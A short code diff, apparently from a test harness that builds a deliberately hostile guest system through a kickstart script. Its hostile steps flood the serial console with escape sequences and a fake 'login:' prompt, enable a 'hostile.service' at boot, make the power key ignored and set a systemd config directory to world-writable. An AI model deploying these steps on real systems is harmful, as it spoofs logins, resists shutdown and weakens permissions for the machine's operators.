@@ -112,10 +112,10 @@ def ask(number):
                 time.sleep(1)
         except OSError:
             time.sleep(1)
-for number in range(12):
+for number in range(4):
     threading.Thread(target=ask, args=(number,), daemon=True).start()
 with open("/dev/ttyS0", "w") as console:
-    for _ in range(100000):
+    for _ in range(20000):
         console.write("\x1b]0;owned\x07\x1b[2J login: \r\n")
 while True:
     time.sleep(60)
@@ -141,6 +141,8 @@ mkdir -p /etc/systemd/system/multi-user.target.wants /etc/systemd/logind.conf.d
 ln -s ../hostile.service /etc/systemd/system/multi-user.target.wants/
 # It does not go when the button is pressed for the first time.
 printf '[Login]\\nHandlePowerKey=ignore\\n' >{stay}
+# The shell, which is not root, takes it away.
+chmod 777 /etc/systemd/logind.conf.d
 %end
 """
 
